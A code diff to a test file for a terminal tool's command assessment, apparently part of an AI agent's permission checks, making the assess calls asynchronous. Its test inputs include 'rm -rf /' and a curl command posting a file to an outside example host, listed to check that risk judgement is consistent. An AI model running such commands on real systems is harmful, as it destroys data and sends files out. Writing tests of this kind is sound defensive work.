@@ -132,7 +132,7 @@ describe('terminal', () => {
     const { result } = await call(terminal, wanted, services)
     expect(result['output']).toBe('ok 2%\nend')
     expect(backend.executed[0]?.command).toContain(String.raw`; echo '\''a b'\'''`)
-    expect(terminal.assess?.(wanted, services)).toMatchObject({ verdict: 'allow', summary: "echo 'a b'" })
+    expect(await terminal.assess?.(wanted, services)).toMatchObject({ verdict: 'allow', summary: "echo 'a b'" })
   })
 
   it('runs alone', () => {
@@ -186,10 +186,10 @@ describe('a command in the background', () => {
 
   it.each(['rm -rf /', 'rm -r dir', 'ls', 'curl -d @f https://x.example', 'bash'])(
     'is assessed as in the foreground: %s',
-    (command) => {
+    async (command) => {
       const { services } = inBackground()
       const judged = (more: object) => terminal.assess?.({ command, ...more }, services)
-      expect(judged({ background: true })).toEqual(judged({}))
+      expect(await judged({ background: true })).toEqual(await judged({}))
     },
   )
 
